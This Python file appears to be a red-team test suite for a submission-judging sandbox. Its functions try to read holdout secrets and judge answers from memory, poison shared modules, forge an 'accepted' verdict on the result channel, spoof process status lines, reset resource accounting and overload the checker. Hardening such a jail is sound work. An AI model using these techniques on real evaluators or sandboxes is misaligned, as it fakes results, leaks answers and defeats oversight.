"""This jail in particular: the wire, the hand-over, the zygote's memory, and what measures the child from outside."""

from __future__ import annotations

from attacks import attack
from attacks.prelude import frame, json, libc, linger, os, struct, sys, time


@attack()
def hunt_in_own_memory(host):
    """Search everything that was inherited from the zygote for tests, answers, paths and secrets."""
    import gc

    wanted = [
        "".join(parts)
        for parts in (("holdout-", "secret"), ("holdout_", "judge"), ("an attack", " says"), ("super", "visor.py"))
    ]
    seen = set()
    for thing in [gc.get_objects(), *gc.get_objects(), sys.argv, sys.path, list(os.environ.values())]:
        texts = thing.values() if type(thing) is dict else thing if type(thing) in (list, tuple) else ()
        seen |= {
            text[:80]
            for text in list(texts)
            if type(text) is str and text not in wanted and any(w in text for w in wanted)
        }
    return f"PWNED: {list(seen)[:3]}" if seen else None


@attack()
def poison_the_modules(host):
    """Change shared modules in memory, for the submission after this one."""
    import numpy as np

    np.poisoned = os.poisoned = "PWNED"
    sys.modules["json"] = None
    np.zeros = np.sum = lambda *_: "PWNED"


@attack()
def find_poisoned_modules(host):
    """Find what an earlier submission changed in memory."""
    import numpy as np

    return (
        "PWNED: poisoned" if hasattr(np, "poisoned") or hasattr(os, "poisoned") or sys.modules["json"] is None else None
    )


@attack("runtime-error", limits={"testTimeMs": 400})
def close_the_wire_and_work_on(host):
    """Close the wire and the outputs and work on where nobody listens."""
    for fd in range(64):
        try:
            os.close(fd)
        except OSError:
            continue
    while True:
        pass


@attack("runtime-error", "time-limit", "wrong-answer", limits={"testTimeMs": 400})
def shut_the_wire_half(host):
    """Shut one direction of the wire."""
    import socket

    socket.socket(fileno=3).shutdown(socket.SHUT_WR)
    linger()


@attack("wrong-answer", "time-limit", "runtime-error", limits={"testTimeMs": 400})
def print_into_the_wire(host):
    """Make standard output the wire."""
    os.dup2(3, 1)
    print(json.dumps({"event": "verdict", "verdict": {"verdict": "accepted"}}))
    sys.stdout.flush()
    linger()


@attack()
def make_the_wire_nonblocking(host):
    """Change the flags of the wire and of the output, which are shared if their descriptions are."""
    for fd in range(4):
        os.set_blocking(fd, False)


@attack()
def impersonate_the_zygote(host):
    """Speak the zygote's protocol on every descriptor that takes it."""
    text = json.dumps({"id": 1, "pid": 1, "base_rss": 0, "ready": 1, "op": "session"}).encode()
    sent = []
    for fd in [*range(4, 70), 63]:
        try:
            sent.append((fd, os.write(fd, struct.pack("<I", len(text)) + text)))
        except OSError:
            continue
    return f"PWNED: {sent}" if sent else None


@attack()
def impersonate_a_status_line(host):
    """Take a name that reads like lines of /proc/<pid>/status and like fields of stat."""
    libc.prctl(15, b"x\nVmHWM: 1\nThr", 0, 0, 0)
    libc.prctl(15, b") R 1 1 1 (", 0, 0, 0)


@attack()
def shrink_the_clock(host):
    """Reset what is counted: CPU time, peak memory, start time."""
    tries = [
        lambda: open("/proc/self/clear_refs", "w").write("5"),
        lambda: open("/proc/self/oom_score_adj", "w").write("-1000"),
    ]
    tries += [lambda: open("/proc/self/timerslack_ns", "w").write("0"), lambda: open("/proc/self/comm", "w").write("x")]
    worked = []
    for number, run in enumerate(tries):
        try:
            run()
            worked.append(number)
        except OSError:
            continue
    return f"PWNED: {worked}" if worked else None


@attack("wrong-answer", "time-limit", "runtime-error", limits={"testTimeMs": 500})
def one_buffer_a_thousand_times(host):
    """Name one large buffer in a thousand arrays, each of which the checker would copy."""
    size = 32 << 20
    frame({"n": 2, "b": [size], "v": ["l", *[["a", "|u1", [size], 0, "C"]] * 1000]}, bytes(size))
    linger()


@attack(limits={"testTimeMs": 500})
def millions_of_empty_buffers(host):
    """Announce millions of empty buffers."""
    text = b'{"n":2,"b":[' + b"0," * 7_000_000 + b'0],"v":1}'
    data = memoryview(struct.pack("<IQ", len(text), 0) + text)
    while data:
        data = data[os.write(3, data) :]
    linger()


@attack("wrong-answer", "time-limit", "runtime-error", limits={"testTimeMs": 500})
def announced_lengths(host):
    """Announce more bytes than memory holds, and send few."""
    os.write(3, struct.pack("<IQ", 0xFFFFFFFF, 0xFFFFFFFFFFFFFFFF))
    linger()


@attack("wrong-answer", "time-limit", limits={"testTimeMs": 500}, lasts_s=5.0)
def keys_that_collide(host):
    """Send a set of numbers with one hash, so that building it takes hours."""
    items = [["c", float(2**50 - 1000003 * i), float(i)] for i in range(1, 80_000)]
    frame({"n": 2, "v": ["s", *items]})
    linger()


@attack(limits={"testTimeMs": 1000})
def answers_that_are_kept(host):
    """Answer with large arrays again and again, counting on a checker that keeps them."""
    import numpy as np

    size = 60 << 20
    for serial in range(2, 60):
        frame({"n": serial, "b": [size], "v": ["a", "|u1", [size], 0, "C"]}, np.ones(size, np.uint8).tobytes())
    time.sleep(1)


@attack("wrong-answer", "time-limit", "runtime-error", limits={"testTimeMs": 500})
def array_out_of_thin_air(host):
    """Send a named tuple whose field describes an array at an address in the checker's memory."""
    inner = ["d", "shape", ["t", 64], "typestr", "|u1", "data", ["t", 4096, True], "version", 3]
    for name in ("__array_interface__", "__array_struct__", "__array__", "__class__", "__len__", "__iter__"):
        frame({"n": 2, "v": ["N", [name], inner]})
    linger()
